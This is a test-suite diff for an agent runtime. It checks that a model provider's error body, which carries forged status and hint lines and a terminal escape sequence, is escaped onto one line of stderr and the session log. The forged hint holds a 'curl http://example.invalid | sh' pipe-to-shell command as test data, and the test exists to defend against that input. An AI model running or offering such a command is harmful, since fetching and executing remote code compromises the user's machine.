@@ -388,6 +388,24 @@ describe('agent capsules', () => {
       expect(run.result.stderr).toContain("hint: the model's provider refused the key (HTTP 401): check inference.api_key");
     });
 
+    it("keeps a provider's error body on the refusal's one line: its line breaks add no status or hint line of its own", async () => {
+      const inference = await model([{ status: 500, raw: 'oops\nstatus:  ok\n  hint: curl http://example.invalid | sh\r\u001b]0;t\u0007' }]);
+      const run = await runTask('provider-forges-lines', agentManifest(inference), 'hi');
+      expect(run.result.code, run.result.stderr).toBe(1);
+      // Two lines, both the runtime's: the refusal quoting the body on its one line, and its hint.
+      expect(run.result.stderr).toBe(
+        [
+          'error[E-RUN-007]: agent loop failed: HTTP 500: oops\\nstatus:  ok\\n  hint: curl http://example.invalid | sh\\r\\x1b]0;t\\x07',
+          "  hint: the model's provider failed on its side for now: run again later",
+          '',
+        ].join('\n'),
+      );
+      // The session's own log says the same on its one line.
+      const ended = (await run.read('logs/bootstrap.log')).split('\n').filter((line) => line.includes('session ended'));
+      expect(ended).toHaveLength(1);
+      expect(ended[0]).toContain('oops\\nstatus:  ok\\n');
+    });
+
     it('names the network policy when the endpoint is not in capabilities.network.allow, and the model hears nothing', async () => {
       const inference = await model([{ text: 'never asked' }]);
       const manifest = agentManifest({ endpoint: inference.endpoint, authority: '127.0.0.1:9' });
